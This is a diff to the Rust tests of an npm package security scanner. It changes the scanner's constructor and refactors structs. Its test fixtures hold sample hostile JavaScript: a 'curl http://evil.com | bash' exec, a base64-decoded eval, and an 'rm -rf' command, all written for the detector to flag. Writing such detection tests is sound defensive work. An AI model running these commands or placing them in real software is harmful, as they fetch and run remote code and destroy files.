@@ -3,12 +3,12 @@ use std::fs;
 use tempfile::TempDir;
 
 #[test]
-#[ignore] // Requires npm to be installed and network access
+#[ignore] // Requires network access
 fn test_audit_safe_package() {
     let temp_dir = TempDir::new().expect("Failed to create temp dir");
     std::env::set_current_dir(temp_dir.path()).expect("Failed to change dir");
 
-    let scanner = SecurityScanner::new("npm".to_string()).expect("Failed to create scanner");
+    let scanner = SecurityScanner::new().expect("Failed to create scanner");
 
     // Test with a known safe package (no scripts)
     let result = scanner.audit_package("is-number@7.0.0");
@@ -40,7 +40,7 @@ fn test_suspicious_pattern_detection() {
 
     fs::write(&package_json, malicious_content).expect("Failed to write package.json");
 
-    let scanner = SecurityScanner::new("npm".to_string()).expect("Failed to create scanner");
+    let scanner = SecurityScanner::new().expect("Failed to create scanner");
     let audit = scanner
         .analyze_package_json(&package_json, "test-malicious")
         .expect("Failed to analyze");
@@ -76,7 +76,7 @@ fn test_risk_level_calculation() {
         ),
     ];
 
-    let scanner = SecurityScanner::new("npm".to_string()).expect("Failed to create scanner");
+    let scanner = SecurityScanner::new().expect("Failed to create scanner");
 
     for (i, (json_content, expected_level)) in test_cases.iter().enumerate() {
         let package_json = temp_dir.path().join(format!("package{}.json", i));
@@ -106,7 +106,7 @@ fn test_no_scripts_package() {
 
     fs::write(&package_json, safe_content).expect("Failed to write package.json");
 
-    let scanner = SecurityScanner::new("npm".to_string()).expect("Failed to create scanner");
+    let scanner = SecurityScanner::new().expect("Failed to create scanner");
     let audit = scanner
         .analyze_package_json(&package_json, "safe-package")
         .expect("Failed to analyze");
@@ -134,7 +134,7 @@ fn test_eval_detection() {
 
     fs::write(&package_json, eval_content).expect("Failed to write package.json");
 
-    let scanner = SecurityScanner::new("npm".to_string()).expect("Failed to create scanner");
+    let scanner = SecurityScanner::new().expect("Failed to create scanner");
     let audit = scanner
         .analyze_package_json(&package_json, "eval-package")
         .expect("Failed to analyze");
@@ -159,7 +159,7 @@ fn test_network_request_patterns() {
 
     fs::write(&package_json, network_content).expect("Failed to write package.json");
 
-    let scanner = SecurityScanner::new("npm".to_string()).expect("Failed to create scanner");
+    let scanner = SecurityScanner::new().expect("Failed to create scanner");
     let audit = scanner
         .analyze_package_json(&package_json, "network-package")
         .expect("Failed to analyze");
@@ -184,7 +184,7 @@ fn test_file_system_access_patterns() {
 
     fs::write(&package_json, fs_content).expect("Failed to write package.json");
 
-    let scanner = SecurityScanner::new("npm".to_string()).expect("Failed to create scanner");
+    let scanner = SecurityScanner::new().expect("Failed to create scanner");
     let audit = scanner
         .analyze_package_json(&package_json, "fs-package")
         .expect("Failed to analyze");
@@ -219,7 +219,7 @@ fn test_multiple_lifecycle_scripts() {
 
     fs::write(&package_json, multi_script_content).expect("Failed to write package.json");
 
-    let scanner = SecurityScanner::new("npm".to_string()).expect("Failed to create scanner");
+    let scanner = SecurityScanner::new().expect("Failed to create scanner");
     let audit = scanner
         .analyze_package_json(&package_json, "multi-script-package")
         .expect("Failed to analyze");
@@ -248,7 +248,7 @@ fn test_base64_obfuscation_detection() {
 
     fs::write(&package_json, obfuscated_content).expect("Failed to write package.json");
 
-    let scanner = SecurityScanner::new("npm".to_string()).expect("Failed to create scanner");
+    let scanner = SecurityScanner::new().expect("Failed to create scanner");
     let audit = scanner
         .analyze_package_json(&package_json, "obfuscated-package")
         .expect("Failed to analyze");
@@ -275,7 +275,7 @@ fn test_child_process_execution() {
 
     fs::write(&package_json, exec_content).expect("Failed to write package.json");
 
-    let scanner = SecurityScanner::new("npm".to_string()).expect("Failed to create scanner");
+    let scanner = SecurityScanner::new().expect("Failed to create scanner");
     let audit = scanner
         .analyze_package_json(&package_json, "exec-package")
         .expect("Failed to analyze");
@@ -303,7 +303,7 @@ fn test_path_traversal_detection() {
 
     fs::write(&package_json, traversal_content).expect("Failed to write package.json");
 
-    let scanner = SecurityScanner::new("npm".to_string()).expect("Failed to create scanner");
+    let scanner = SecurityScanner::new().expect("Failed to create scanner");
     let audit = scanner
         .analyze_package_json(&package_json, "traversal-package")
         .expect("Failed to analyze");
@@ -332,7 +332,7 @@ fn test_critical_risk_level() {
 
     fs::write(&package_json, critical_content).expect("Failed to write package.json");
 
-    let scanner = SecurityScanner::new("npm".to_string()).expect("Failed to create scanner");
+    let scanner = SecurityScanner::new().expect("Failed to create scanner");
     let audit = scanner
         .analyze_package_json(&package_json, "critical-package")
         .expect("Failed to analyze");
@@ -351,6 +351,7 @@ fn test_source_code_issue_severity() {
         description: "Critical issue".to_string(),
         severity: IssueSeverity::Critical,
         code_snippet: None,
+        data_flow: Vec::new(),
     };
 
     let issue_warning = SourceCodeIssue {
@@ -360,6 +361,7 @@ fn test_source_code_issue_severity() {
         description: "Warning issue".to_string(),
         severity: IssueSeverity::Warning,
         code_snippet: None,
+        data_flow: Vec::new(),
     };
 
     let issue_info = SourceCodeIssue {
@@ -369,6 +371,7 @@ fn test_source_code_issue_severity() {
         description: "Info issue".to_string(),
         severity: IssueSeverity::Info,
         code_snippet: None,
+        data_flow: Vec::new(),
     };
 
     assert_eq!(issue_critical.severity, IssueSeverity::Critical);
@@ -403,7 +406,7 @@ fn test_empty_scripts_object() {
 
     fs::write(&package_json, empty_scripts).expect("Failed to write package.json");
 
-    let scanner = SecurityScanner::new("npm".to_string()).expect("Failed to create scanner");
+    let scanner = SecurityScanner::new().expect("Failed to create scanner");
     let audit = scanner
         .analyze_package_json(&package_json, "empty-scripts")
         .expect("Failed to analyze");
@@ -428,7 +431,7 @@ fn test_destructive_commands() {
 
     fs::write(&package_json, destructive_content).expect("Failed to write package.json");
 
-    let scanner = SecurityScanner::new("npm".to_string()).expect("Failed to create scanner");
+    let scanner = SecurityScanner::new().expect("Failed to create scanner");
     let audit = scanner
         .analyze_package_json(&package_json, "destructive-package")
         .expect("Failed to analyze");
@@ -457,7 +460,7 @@ fn test_git_clone_detection() {
 
     fs::write(&package_json, git_content).expect("Failed to write package.json");
 
-    let scanner = SecurityScanner::new("npm".to_string()).expect("Failed to create scanner");
+    let scanner = SecurityScanner::new().expect("Failed to create scanner");
     let audit = scanner
         .analyze_package_json(&package_json, "git-package")
         .expect("Failed to analyze");
@@ -470,12 +473,12 @@ fn test_git_clone_detection() {
 }
 
 #[test]
-#[ignore] // Requires npm and network access
+#[ignore] // Requires network access
 fn test_transitive_dependency_scan() {
     let temp_dir = TempDir::new().expect("Failed to create temp dir");
     std::env::set_current_dir(temp_dir.path()).expect("Failed to change dir");
 
-    let scanner = SecurityScanner::new("npm".to_string()).expect("Failed to create scanner");
+    let scanner = SecurityScanner::new().expect("Failed to create scanner");
 
     // Test with a package that has dependencies (e.g., express has many)
     let result = scanner.scan_transitive_dependencies("lodash@4.17.21", 2);
@@ -514,7 +517,7 @@ fn test_dependency_extraction() {
 
     fs::write(&package_json, content_with_deps).expect("Failed to write package.json");
 
-    let scanner = SecurityScanner::new("npm".to_string()).expect("Failed to create scanner");
+    let scanner = SecurityScanner::new().expect("Failed to create scanner");
     let audit = scanner
         .analyze_package_json(&package_json, "test-package")
         .expect("Failed to analyze");
@@ -534,7 +537,7 @@ fn test_regexp_exec_not_flagged_as_system_exec() {
     use tempfile::TempDir;
 
     let temp_dir = TempDir::new().expect("Failed to create temp dir");
-    let scanner = SecurityScanner::new("npm".to_string()).expect("Failed to create scanner");
+    let scanner = SecurityScanner::new().expect("Failed to create scanner");
 
     // Create a test JavaScript file with RegExp.exec() usage (legitimate)
     let test_file = temp_dir.path().join("regexp_test.js");
@@ -561,17 +564,7 @@ for (let i = firstLine; i <= lastLine; i++) {
 
     let mut audit = PackageAudit {
         package_name: "test-regexp".to_string(),
-        has_scripts: false,
-        preinstall: None,
-        install: None,
-        postinstall: None,
-        suspicious_patterns: Vec::new(),
-        source_code_issues: Vec::new(),
-        risk_level: RiskLevel::Safe,
-        dependencies: Vec::new(),
-        dev_dependencies: Vec::new(),
-        behavioral_chains: Vec::new(),
-        risk_score: 0,
+        ..Default::default()
     };
 
     // Analyze the file
@@ -609,7 +602,7 @@ fn test_child_process_exec_is_flagged() {
     use tempfile::TempDir;
 
     let temp_dir = TempDir::new().expect("Failed to create temp dir");
-    let scanner = SecurityScanner::new("npm".to_string()).expect("Failed to create scanner");
+    let scanner = SecurityScanner::new().expect("Failed to create scanner");
 
     // Create a test JavaScript file with actual child_process.exec()
     let test_file = temp_dir.path().join("malicious_exec.js");
@@ -628,17 +621,7 @@ cp.execSync('curl http://evil.com | bash');
 
     let mut audit = PackageAudit {
         package_name: "test-malicious".to_string(),
-        has_scripts: false,
-        preinstall: None,
-        install: None,
-        postinstall: None,
-        suspicious_patterns: Vec::new(),
-        source_code_issues: Vec::new(),
-        risk_level: RiskLevel::Safe,
-        dependencies: Vec::new(),
-        dev_dependencies: Vec::new(),
-        behavioral_chains: Vec::new(),
-        risk_score: 0,
+        ..Default::default()
     };
 
     // Analyze the file
@@ -664,7 +647,7 @@ fn test_new_function_with_obfuscation_is_critical() {
     use tempfile::TempDir;
 
     let temp_dir = TempDir::new().expect("Failed to create temp dir");
-    let scanner = SecurityScanner::new("npm".to_string()).expect("Failed to create scanner");
+    let scanner = SecurityScanner::new().expect("Failed to create scanner");
 
     let test_file = temp_dir.path().join("obfuscated.js");
     let obfuscated_code = r#"
@@ -680,17 +663,7 @@ eval(Buffer.from('bWFsaWNpb3VzX2NvZGU=', 'base64').toString());
 
     let mut audit = PackageAudit {
         package_name: "test-obfuscated".to_string(),
-        has_scripts: false,
-        preinstall: None,
-        install: None,
-        postinstall: None,
-        suspicious_patterns: Vec::new(),
-        source_code_issues: Vec::new(),
-        risk_level: RiskLevel::Safe,
-        dependencies: Vec::new(),
-        dev_dependencies: Vec::new(),
-        behavioral_chains: Vec::new(),
-        risk_score: 0,
+        ..Default::default()
     };
 
     let content = fs::read_to_string(&test_file).expect("Failed to read test file");
@@ -715,7 +688,7 @@ fn test_legitimate_new_function_is_warning_only() {
     use tempfile::TempDir;
 
     let temp_dir = TempDir::new().expect("Failed to create temp dir");
-    let scanner = SecurityScanner::new("npm".to_string()).expect("Failed to create scanner");
+    let scanner = SecurityScanner::new().expect("Failed to create scanner");
 
     let test_file = temp_dir.path().join("compiler.js");
     let compiler_code = r#"
@@ -731,17 +704,7 @@ const compiled = new Function('a', 'b', 'return a + b');
 
     let mut audit = PackageAudit {
         package_name: "test-compiler".to_string(),
-        has_scripts: false,
-        preinstall: None,
-        install: None,
-        postinstall: None,
-        suspicious_patterns: Vec::new(),
-        source_code_issues: Vec::new(),
-        risk_level: RiskLevel::Safe,
-        dependencies: Vec::new(),
-        dev_dependencies: Vec::new(),
-        behavioral_chains: Vec::new(),
-        risk_score: 0,
+        ..Default::default()
     };
 
     let content = fs::read_to_string(&test_file).expect("Failed to read test file");
@@ -774,7 +737,7 @@ fn test_arbitrary_regex_variable_not_flagged_fallback() {
     use tempfile::TempDir;
 
     let temp_dir = TempDir::new().expect("Failed to create temp dir");
-    let scanner = SecurityScanner::new("npm".to_string()).expect("Failed to create scanner");
+    let scanner = SecurityScanner::new().expect("Failed to create scanner");
 
     // Fallback scanner: code with .exec() that should NOT be flagged
     let test_file = temp_dir.path().join("regex_fallback.js");
@@ -798,17 +761,7 @@ while (result = someVar.exec(text)) {
 
     let mut audit = PackageAudit {
         package_name: "test-regex-fallback".to_string(),
-        has_scripts: false,
-        preinstall: None,
-        install: None,
-        postinstall: None,
-        suspicious_patterns: Vec::new(),
-        source_code_issues: Vec::new(),
-        risk_level: RiskLevel::Safe,
-        dependencies: Vec::new(),
-        dev_dependencies: Vec::new(),
-        behavioral_chains: Vec::new(),
-        risk_score: 0,
+        ..Default::default()
     };
 
     let content = fs::read_to_string(&test_file).expect("Failed to read test file");
@@ -832,7 +785,7 @@ fn test_standalone_exec_still_flagged_fallback() {
     use tempfile::TempDir;
 
     let temp_dir = TempDir::new().expect("Failed to create temp dir");
-    let scanner = SecurityScanner::new("npm".to_string()).expect("Failed to create scanner");
+    let scanner = SecurityScanner::new().expect("Failed to create scanner");
 
     // Standalone exec() with no object — should be flagged
     let test_file = temp_dir.path().join("standalone_exec.js");
@@ -845,17 +798,7 @@ execSync('rm -rf /tmp/test');
 
     let mut audit = PackageAudit {
         package_name: "test-standalone-exec".to_string(),
-        has_scripts: false,
-        preinstall: None,
-        install: None,
-        postinstall: None,
-        suspicious_patterns: Vec::new(),
-        source_code_issues: Vec::new(),
-        risk_level: RiskLevel::Safe,
-        dependencies: Vec::new(),
-        dev_dependencies: Vec::new(),
-        behavioral_chains: Vec::new(),
-        risk_score: 0,
+        ..Default::default()
     };
 
     let content = fs::read_to_string(&test_file).expect("Failed to read test file");